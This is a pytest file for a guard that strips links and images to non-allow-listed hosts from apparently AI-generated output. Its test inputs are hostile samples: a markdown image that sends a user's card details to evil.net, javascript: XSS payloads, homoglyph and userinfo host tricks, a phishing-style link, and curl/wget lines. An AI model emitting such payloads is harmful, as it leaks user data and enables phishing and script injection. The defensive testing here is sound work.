"""The links guard: images and links by every syntax, host normalisation, parameters."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from pydantic import ValidationError

from tether.errors import PolicyError
from tether.guards import GuardContext
from tether.guards._links import (
    _DOMAIN_RE,
    _URL_RE,
    IMAGE_REMOVED,
    LINK_REMOVED,
    LinksGuard,
    LinksParams,
    _domain_matches,
    _url_matches,
    find_links,
    normalize_host,
)
from tether.pipeline import apply_spans
from tether.policy import load_policy_text, tighten_direction

OUT = GuardContext(stage="output")
ALLOW = LinksParams(allow_domains=("example.com",))


async def check(text: str, params: LinksParams = ALLOW) -> tuple[bool, str, str]:
    verdict = await LinksGuard(params).check(text, OUT)
    return verdict.flagged, verdict.reason, apply_spans(text, verdict.spans)


async def test_markdown_image_to_unknown_host_is_the_exfiltration_path() -> None:
    text = "Here you go ![chart](https://evil.net/log?q=the%20user%27s%20card) done."
    flagged, reason, redacted = await check(text)
    assert flagged and reason == "outside the allow-list: image from evil.net"
    assert redacted == f"Here you go {IMAGE_REMOVED} done."


async def test_allowed_hosts_and_subdomains_pass() -> None:
    for text in [
        "See [the docs](https://docs.example.com/pin) or https://example.com/faq.",
        "![logo](https://cdn.example.com/logo.png)",
        '<img src="https://example.com/a.png"> <a href="https://www.example.com">home</a>',
        "Rates: example.com/rates and <https://example.com/x>",
        "A relative link [help](/help) and ![icon](./icon.png) stay on the page's host.",
    ]:
        flagged, reason, _ = await check(text)
        assert not flagged, (text, reason)


async def test_suffix_match_respects_label_boundaries() -> None:
    for host in ["notexample.com", "example.com.evil.net", "example.co", "xample.com"]:
        flagged, reason, _ = await check(f"Go to https://{host}/x")
        assert flagged and host in reason, host


async def test_links_are_replaced_by_their_text() -> None:
    text = "Read [our guide](https://evil.net/guide) or [](https://evil.net/empty)."
    flagged, _, redacted = await check(text)
    assert flagged
    assert redacted == f"Read our guide or {LINK_REMOVED}."
    # Link text that is itself a URL or domain would bring the host back: removed instead.
    _, _, redacted = await check(
        "[https://evil.net](https://evil.net) and [evil.net](https://evil.net)"
    )
    assert redacted == f"{LINK_REMOVED} and {LINK_REMOVED}"


async def test_bare_urls_www_and_domains() -> None:
    text = "Visit https://evil.net/path, or www.bad.org. Also bank.co.uk and notexample.com!"
    flagged, reason, redacted = await check(text)
    assert flagged
    assert reason == (
        "outside the allow-list: link to evil.net, link to www.bad.org, domain bank.co.uk, "
        "domain notexample.com"
    )
    assert redacted == (
        f"Visit {LINK_REMOVED}, or {LINK_REMOVED}. Also {LINK_REMOVED} and {LINK_REMOVED}!"
    )


async def test_text_that_only_looks_like_domains_is_not_flagged() -> None:
    text = (
        "Call logger.info(x) with user.id; see README.md and node.js, e.g. i.e. version 3.14. "
        "It ended.It was fine. Email bob@evil.net. `curl evil.net` and\n```\nwget bad.org\n```"
    )
    flagged, reason, _ = await check(text)
    assert not flagged, reason
    # Word-like country codes count with a path: evil.me/x is a link, evil.me alone is not.
    assert (await check("evil.me"))[0] is False
    assert (await check("evil.me/x"))[0] is True
    # So do the reserved test domains: a file called .env.example is no link.
    assert (await check("Copy .env.example to .env first."))[0] is False
    assert (await check("Confirm your details at card-help.example/login today."))[0] is True


async def test_html_images_links_srcset_and_css() -> None:
    text = (
        '<p>Hi <img alt="a > b" src="https://evil.net/p.png"> '
        "<a href='https://evil.net'>click <b>here</b></a> "
        '<img srcset="https://example.com/a.png 1x, https://evil.org/b.png 2x"> '
        "<div style=\"background:url('https://evil.io/bg')\">x</div></p>"
    )
    flagged, reason, redacted = await check(text)
    assert flagged
    assert reason == (
        "outside the allow-list: image from evil.net, link to evil.net, image from evil.org, "
        "image from evil.io"
    )
    assert redacted == (
        f"<p>Hi {IMAGE_REMOVED} click here {IMAGE_REMOVED} {IMAGE_REMOVED}x</div></p>"
    )


async def test_reference_style_images_and_links() -> None:
    text = "![x][logo] and [docs][1]\n\n[logo]: https://evil.net/x.png\n[1]: https://evil.org/d"
    links = find_links(text)
    assert [(link.kind, link.host) for link in links] == [
        ("image", "evil.net"),
        ("link", "evil.org"),
    ]
    flagged, reason, _ = await check(text, LinksParams(block_links=False))
    assert flagged and reason == "outside the allow-list: image from evil.net"


async def test_host_tricks_resolve_like_a_browser() -> None:
    # Userinfo and port are not the host; a backslash is a slash (the host is example.com).
    assert (await check("https://example.com@evil.net/x"))[1].endswith("evil.net")
    assert (await check("https://user:pw@evil.net:8080/x"))[1].endswith("evil.net")
    assert not (await check("https://example.com\\@evil.net/"))[0]
    assert not (await check("https://example.com:8443/x"))[0]
    # Full-width letters, ideographic dots, invisible characters and a trailing dot.
    for url in [
        "https://ｅｘａｍｐｌｅ。com/x",
        "https://exam\u200bple.com/",
        "https://EXAMPLE.com./ok",
        "https://example%2Ecom/",
    ]:
        assert not (await check(url))[0], url
    # A look-alike host is another host (IDNA gives its punycode form).
    flagged, reason, _ = await check("https://еxample.com/login")  # Cyrillic е
    assert flagged and "xn--" in reason
    # Entities in an attribute are decoded before the URL is read.
    flagged, reason, _ = await check('<img src="https&#58;//evil.net/x">')
    assert flagged and reason.endswith("image from evil.net")


async def test_ip_hosts_are_never_allowed() -> None:
    for url in [
        "http://10.0.0.1/x",
        "http://2130706433/",
        "http://0x7f.1/",
        "http://[::1]:8080/",
        "![x](http://192.168.1.5/p.png)",
    ]:
        flagged, reason, _ = await check(url)
        assert flagged and "IP address" in reason, url
    with pytest.raises(ValidationError, match="IP hosts are never allowed"):
        LinksParams(allow_domains=("10.0.0.1",))


async def test_unsafe_schemes_are_always_flagged() -> None:
    params = LinksParams(block_links=False, block_images=False)
    for text in [
        "[click](javascript:alert(1))",
        '<a href="jav&#x61;script:alert(1)">x</a>',
        "![x](data:image/svg+xml;base64,PHN2Zz4=)",
        "<a href='vbscript:msgbox'>x</a>",
    ]:
        flagged, reason, _ = await check(text, params)
        assert flagged and "URL" in reason, text
    assert not (await check("![dot](data:image/png;base64,iVBORw0KGgo=)"))[0]
    # In plain prose a scheme is only text: nothing renders it as a link.
    assert not (await check("Use javascript:void(0) in old code."))[0]


async def test_block_images_without_block_links() -> None:
    params = LinksParams(block_links=False)
    text = "See https://evil.net/x and ![p](https://evil.net/p.png)"
    flagged, reason, redacted = await check(text, params)
    assert flagged and reason == "outside the allow-list: image from evil.net"
    assert redacted == f"See https://evil.net/x and {IMAGE_REMOVED}"
    off = LinksParams(block_links=False, block_images=False)
    assert not (await check(text, off))[0]


async def test_bare_domains_can_be_turned_off() -> None:
    params = LinksParams(bare_domains=False)
    assert not (await check("Try evil.net today", params))[0]
    assert (await check("Try https://evil.net today", params))[0]


async def test_input_stage_and_empty_text() -> None:
    verdict = await LinksGuard(ALLOW).check("paste: https://evil.net", GuardContext(stage="input"))
    assert verdict.flagged
    assert not (await LinksGuard(ALLOW).check("", OUT)).flagged


def test_allow_domains_are_normalised_and_validated() -> None:
    params = LinksParams(allow_domains=("*.Example.COM", ".bücher.de", "example.com."))
    assert params.allow_domains == ("example.com", "xn--bcher-kva.de")
    for bad in ["https://example.com", "example.com/path", "example.com:443", "localhost", ""]:
        with pytest.raises(ValidationError, match="allow_domains entry"):
            LinksParams(allow_domains=(bad,))


def test_normalize_host() -> None:
    assert normalize_host("Bücher.DE.") == "xn--bcher-kva.de"
    assert normalize_host("ｅｘａｍｐｌｅ。com") == "example.com"
    assert normalize_host("a" * 64 + ".com") is None
    assert normalize_host("") is None
    assert normalize_host("ex ample.com") is None


async def test_hostile_markup_stays_fast() -> None:
    guard = LinksGuard(ALLOW)
    for text in ['<a "' * 5000, "<img alt='x' " * 3000, "[" * 20000, "a." * 10000]:
        start = time.perf_counter()
        await guard.check(text, OUT)
        assert time.perf_counter() - start < 1.0, text[:20]


def test_tighten_metadata() -> None:
    assert tighten_direction(LinksParams, "allow_domains") == "subset"
    assert tighten_direction(LinksParams, "block_images") == "higher"
    assert tighten_direction(LinksParams, "block_links") == "higher"
    assert tighten_direction(LinksParams, "bare_domains") == "higher"


POLICY = """\
name: demo
identity: {purpose: Answer questions about cards.}
guards:
  output:
    - guard: links
      params: {allow_domains: [example.com, help.example.org], block_images: true, block_links: false}
      action: redact
tenants:
  acme:
    guards:
      output:
        - guard: links
          params: {params}
"""


def test_tenant_overlay_may_only_tighten() -> None:
    ok = load_policy_text(
        POLICY.replace("{params}", "{allow_domains: [example.com], block_links: true}")
    )
    (cfg,) = ok.for_tenant("acme").guards.output
    assert cfg.params["allow_domains"] == ["example.com"] and cfg.params["block_links"] is True
    for loose in [
        "{allow_domains: [example.com, evil.net]}",
        "{block_images: false}",
    ]:
        with pytest.raises(PolicyError, match="loosens guard 'links'"):
            load_policy_text(POLICY.replace("{params}", loose))


# --- fast paths: the same matches as the plain scans -------------------------------------------

_URL_PIECES = (
    "://", "http", "HTTPS", "ftp", "ws", "wss", "www.", ".com", ".io", ".example", "evil", "a.b",
    "x-y", "_", "@", "/", ":", " ", "(", ")", ".", "..", "é", "例", "1", "2001",
)  # fmt: skip
_URLISH = st.lists(
    st.one_of(st.sampled_from(_URL_PIECES), st.text(alphabet="aZ09.-_@/: ", max_size=5)),
    max_size=16,
).map("".join)


@settings(max_examples=400, deadline=None)
@given(_URLISH)
def test_urls_and_domains_found_from_their_starts_are_the_plain_scans(text: str) -> None:
    assert [m.span() for m in _url_matches(text)] == [m.span() for m in _URL_RE.finditer(text)]
    assert [m.span() for m in _domain_matches(text)] == [
        m.span() for m in _DOMAIN_RE.finditer(text)
    ]
